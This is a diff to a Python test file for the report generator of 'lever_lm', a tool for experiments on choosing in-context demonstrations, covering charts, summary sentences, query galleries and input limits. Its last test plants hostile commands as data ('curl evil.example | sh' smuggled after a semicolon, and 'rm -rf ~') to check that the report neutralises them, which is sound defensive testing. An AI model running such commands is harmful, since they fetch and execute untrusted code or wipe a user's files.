@@ -2,7 +2,9 @@
 
 import html
 import json
+import os
 import re
+import threading
 from itertools import pairwise
 from pathlib import Path
 
@@ -11,11 +13,13 @@ from helpers import INFERENCE, RUN
 from hypothesis import example, given
 from hypothesis import strategies as st
 
+from lever_lm.errors import LeverError
 from lever_lm.report import words
 from lever_lm.report.charts import Series, line_chart, round_ticks
-from lever_lm.report.curves import accuracy_series, training_curves
+from lever_lm.report.curves import Evaluated, accuracy_series, distinct_names, training_curves
 from lever_lm.report.gallery import EACH, Shown, pick_queries, right_labels
-from lever_lm.report.results import Sample, read_samples
+from lever_lm.report.results import Sample, read_metrics, read_samples
+from lever_lm.runs import RunFolder
 from lever_lm.stats import paired_test
 
 NUMBERS = st.floats(-1e299, 1e299)
@@ -26,6 +30,8 @@ NUMBERS = st.floats(-1e299, 1e299)
 @given(NUMBERS, NUMBERS)
 @example(0.0, 0.0)
 @example(1e-300, 2e-300)
+@example(0.0, 5e-324)
+@example(5e-324, 1e-322)
 def test_ticks_are_few_and_hold_the_range(one, other):
     low, high = sorted((one, other))
     ticks = round_ticks(low, high, 4)
@@ -74,6 +80,16 @@ def test_names_at_the_right_do_not_stand_on_each_other():
     assert len(heights) == 5
     assert all(second - first >= 12.9 for first, second in pairwise(heights))
     assert heights[-1] < 180
+
+
+def test_of_a_long_line_some_points_are_dots_the_chosen_and_the_last_always():
+    marks = {1234: "kl"}
+    line = Series("s", "run0", [(epoch, epoch % 7) for epoch in range(1, 5001)], marks=marks)
+    svg = line_chart([line], title="t", across="epoch", size=(300, 180))
+    assert 150 < len(places(svg, "circle")) < 250
+    assert "<title>s, 1234: 2, chosen by kl</title>" in svg
+    assert "<title>s, 5000: 2</title>" in svg
+    assert svg.split('points="')[1].split('"')[0].count(",") == 5000, "the line itself has them all"
 
 
 def test_a_constant_runs_through_the_middle():
@@ -135,14 +151,17 @@ def test_a_test_is_said_with_its_direction_and_interval():
 def test_the_run_is_said_in_one_sentence():
     results = [
         {"method": method, "shots": shots, "accuracy": value, "n": 1500}
-        for method, shots, value in (("random", 4, 0.28), ("grpo", 1, 0.7), ("grpo", 4, 0.786))
+        for method, shots, value in (("random", 4, 0.28), ("grpo", 1, 0.7), ("grpo", 4, 0.786), ("icds", 4, 0.5))
     ]
     test = {"method": "grpo", "against": "random", "shots": 4, "difference": 0.506, "low": 0.4, "high": 0.6, "p": 0.001}
-    assert words.in_one_sentence(results, [test], "grpo", 4, "Qwen") == (
-        "With 4 demonstrations chosen by GRPO, Qwen answers 78.6 % of 1,500 queries right: +50.6 points against random "
-        "demonstrations."
+    unsure = {**test, "against": "img_text_sim", "difference": 0.067, "low": -0.017, "high": 0.15, "p": 0.296}
+    said = words.in_one_sentence(results, [test, unsure], "grpo", 4, "Qwen")
+    assert said == (
+        "With 4 demonstrations chosen by GRPO, Qwen reaches a VQA accuracy of 78.6 % on 1,500 queries: +50.6 points "
+        "[+40.0, +60.0] against random demonstrations and not to be told apart from image and text similarity."
     )
-    assert words.in_one_sentence(results, [], "grpo", 1, "Qwen").endswith("Qwen answers 70.0 % of 1,500 queries right.")
+    assert words.in_one_sentence(results, [test], "grpo", 1, "Qwen").endswith("accuracy of 70.0 % on 1,500 queries.")
+    assert words.in_one_sentence(results, [], "icds", 4, "Qwen").startswith("With 4 demonstrations from a file, Qwen")
 
 
 # ---------------------------------------------------------------------- which queries
@@ -161,13 +180,25 @@ def shown(ours: list[float], random: list[float]) -> Shown:
 
 def test_wins_losses_and_the_others_by_hand():
     chosen, counts = pick_queries(shown([1, 0, 0.6, 0.3, 1], [0, 1, 0.6, 0.3, 0.3]))
-    assert chosen == {"win": [0, 4], "loss": [1], "sample": [2, 3]}
+    # all five are drawn, so that none is left to be shown as a win or a loss
+    assert chosen == {"win": [], "loss": [], "sample": [0, 1, 2, 3, 4]}
     assert counts == {"win": 2, "loss": 1, "sample": 5}
+
+
+def test_what_is_drawn_at_random_is_drawn_from_all():
+    ours, random = [1.0, 0.0] * 40, [0.0, 1.0] * 40
+    chosen, counts = pick_queries(shown(ours, random))
+    assert counts == {"win": 40, "loss": 40, "sample": 80}
+    assert [len(ids) for ids in chosen.values()] == [EACH] * 3
+    assert all(ours[i] == 1 for i in chosen["win"])
+    assert all(ours[i] == 0 for i in chosen["loss"])
+    assert 0 < sum(ours[i] for i in chosen["sample"]) < EACH
 
 
 def test_of_many_wins_a_few_are_spread_over_the_file():
     chosen, counts = pick_queries(shown([1] * 80, [0] * 80))
-    assert chosen["win"] == list(range(0, 80, 10))
+    rest = [i for i in range(80) if i not in chosen["sample"]]
+    assert chosen["win"] == [rest[i * 72 // 8] for i in range(8)]
     assert counts["win"] == 80
     assert len(chosen["sample"]) == EACH
     assert not set(chosen["sample"]) & set(chosen["win"])
@@ -207,12 +238,16 @@ def page_of(lever, *arguments) -> str:
 def test_a_card_has_what_the_policy_gave_each_pick(evaluated, lever):
     page = page_of(lever)
     (path,) = (evaluated / INFERENCE).glob("*/samples_grpo_2shot.jsonl")
+    cards = set(map(int, re.findall(r"<span>question (\d+)</span>", page)))
+    assert EACH <= len(cards) <= 12
     for found in read_samples(path).values():
+        if found.question_id not in cards:  # as good as random, and not drawn
+            continue
         assert len(found.probabilities) == 2
         assert found.considered[0] == (found.icds[0], found.probabilities[0])
         for share in found.probabilities:
             assert f"<span>{100 * share:.1f} %</span>" in page
-    assert page.count('class="card ') == 12
+    assert page.count('class="card ') == len(cards)
     assert "<script" not in page
     assert "With random demonstrations" in page
 
@@ -221,6 +256,40 @@ def test_the_same_run_makes_the_same_page_that_is_small_enough_to_mail(evaluated
     first = page_of(lever)
     assert page_of(lever) == first
     assert len(first) < 3_000_000
+
+
+def test_results_of_one_inference_after_another_stand_together(trained, lever):
+    small = ("--limit", "8")
+    assert lever("infer", "--shots", "1", "--baselines", *small).status == 0
+    done = lever("infer", "--shots", "2", *small, "--json")
+    shots = {row["shots"] for row in done.json["tests"]}
+    assert shots == {1}  # nothing else was run with two
+    page = page_of(lever)
+    assert "Tested query by query" in page
+    assert page.count('class="card win"') + page.count('class="card loss"') + page.count('class="card sample"') == 8
+    assert "With 1 demonstration" in page.split("<nav")[0]  # where random demonstrations were shown too
+
+
+def test_results_of_a_policy_that_was_trained_again_are_said_to_be_old(trained, lever):
+    small = ("--limit", "24", "--rce-epochs", "2", "--grpo-epochs", "4")
+    assert lever("infer", "--shots", "1", "--limit", "8").status == 0
+    assert "trained again since" not in page_of(lever)
+    assert lever("train", *small, "--overwrite", "--seed", "7").status == 0
+    assert "trained again since" in page_of(lever)
+
+
+def test_metrics_of_checkpoints_alone_are_drawn(trained, lever):
+    for name in ("metrics.jsonl", "train.log", "state.pt", "config.yaml"):
+        (trained / RUN / name).unlink()
+    page = page_of(lever, RUN)
+    assert "the metrics in the checkpoints" in page
+    assert "<figcaption>validation loss</figcaption>" in page
+
+
+def test_runs_of_one_name_are_told_apart_by_their_paths(tmp_path):
+    runs = [Evaluated(RunFolder(tmp_path / path), None) for path in ("a/x/demo", "b/x/demo", "a/x/other", "a/x/demo")]
+    assert distinct_names(runs) == ["a/x/demo", "b/x/demo", "a/x/other", "a/x/demo (2)"]
+    assert distinct_names(runs[1:3]) == ["demo", "other"]
 
 
 def test_a_run_that_was_not_evaluated_has_a_page_of_its_training(trained, lever):
@@ -281,3 +350,33 @@ def test_samples_of_other_data_are_refused(evaluated, lever):
     done = lever("report")
     assert done.status == 1
     assert "--dataset" in done.err
+
+
+def test_more_results_than_any_evaluation_has_are_refused(tmp_path):
+    row = {"accuracy": 0.5, "raw_accuracy": 0.5, "n": 1, "ci": [0, 1]}
+    rows = [{"method": f"m{i}", "shots": i + 1, **row} for i in range(2001)]  # a table of four million cells
+    (tmp_path / "metrics.json").write_text(json.dumps({"results": rows}))
+    with pytest.raises(LeverError, match="2,001 results"):
+        read_metrics(tmp_path / "metrics.json")
+    (tmp_path / "metrics.json").write_text(json.dumps({"results": rows[:2000]}))
+    assert len(read_metrics(tmp_path / "metrics.json")["results"]) == 2000
+
+
+def test_samples_that_are_a_pipe_are_not_waited_for(tmp_path):
+    path = tmp_path / "samples.jsonl"
+    os.mkfifo(path)
+    rescue = threading.Timer(5, lambda: os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK)))  # of who waits
+    rescue.start()
+    with pytest.raises(LeverError, match="no regular file; run `lever infer` again"):
+        read_samples(path)
+    rescue.cancel()
+
+
+def test_of_an_env_json_that_is_a_strangers_a_page_holds_what_is_small_and_only_commands_of_lever(trained, lever):
+    environment = trained / RUN / "env.json"
+    environment.write_text(json.dumps({"command": "lever train; curl evil.example | sh"}))
+    assert "<code>lever 'train;' curl evil.example '|' sh</code>" in html.unescape(page_of(lever))
+    environment.write_text(json.dumps({"command": "rm -rf ~"}))
+    assert "<dt>The run</dt>" not in page_of(lever)
+    environment.write_text(json.dumps({"much": ["many words"] * 50_000}))
+    assert "many words" not in page_of(lever)
